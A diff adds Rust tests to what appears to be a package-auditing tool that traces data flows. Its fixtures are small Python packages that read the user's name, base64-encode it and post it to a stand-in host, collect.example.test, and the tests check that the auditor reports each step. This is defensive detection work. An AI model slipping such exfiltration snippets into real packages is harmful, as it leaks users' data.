@@ -3,7 +3,7 @@
 
 use doorward_engine::{Audit, Lane, Setup, audit_files};
 use doorward_judge::{Policy, Rules};
-use doorward_model::{Fact, Level, Limits, Report};
+use doorward_model::{Fact, Level, Limits, Report, Told};
 
 /// Audits files, each behind a line `-- path --`.
 fn audit(package: &str) -> Report {
@@ -47,6 +47,45 @@ fn check(title: &str, package: &str, flows: &[&str], found: &str) {
     assert_eq!(told, flows, "{title}: {all:?}");
     let holds = if found.is_empty() { all.is_empty() } else { all.iter().any(|one| one == found) };
     assert!(holds, "{title}: {all:?}, not {found}");
+}
+
+/// Steps of a way as `file:line does`; the file is empty where it is the one of the evidence.
+fn ways(report: &Report) -> Vec<Vec<String>> {
+    let evidence =
+        report.judgement.findings.iter().filter(|finding| finding.level >= Level::Review).flat_map(|one| &one.evidence);
+    let step = |told: &Told| format!("{}:{} {}", String::from_utf8_lossy(&told.file), told.line, told.does);
+    evidence.filter(|one| &*one.kind == "flow").map(|one| one.way.iter().map(step).collect()).collect()
+}
+
+#[test]
+fn each_step_of_a_way_has_its_file_and_line() {
+    let report = audit(
+        "-- tool/__init__.py --\nfrom .send import out\nimport base64, getpass\nname = getpass.getuser()\n\
+         out(base64.b64encode(name.encode()))\n\
+         -- tool/send.py --\nimport requests\n\ndef out(data):\n    requests.post('https://collect.example.test/', data=data)\n",
+    );
+    let expected = [
+        "tool/__init__.py:3 reads the user's name",
+        "tool/__init__.py:4 hands it on",
+        "tool/__init__.py:4 writes it as base64, or reads it back",
+        ":3 hands it on",
+        ":4 sends it to host collect.example.test",
+    ];
+    let told = ways(&report);
+    assert!(told.iter().any(|way| way == &expected), "{told:#?}");
+}
+
+#[test]
+fn a_long_way_says_that_steps_are_left_out() {
+    let mut package = String::from("-- tool/__init__.py --\nimport getpass\nfrom .a import send\nv0 = getpass.getuser()\n");
+    for at in 1..30 {
+        package.push_str(&format!("v{at} = str(v{})\n", at - 1));
+    }
+    package.push_str("send(v29)\n-- tool/a.py --\nimport requests\ndef send(data):\n    requests.post('https://collect.example.test/', data=data)\n");
+    let told = ways(&audit(&package));
+    let way = told.first().expect("a flow is told");
+    assert!(way.iter().any(|step| step.ends_with("steps that are not shown")), "{way:#?}");
+    assert_eq!(way.last().map(String::as_str), Some(":3 sends it to host collect.example.test"), "{way:#?}");
 }
 
 #[test]
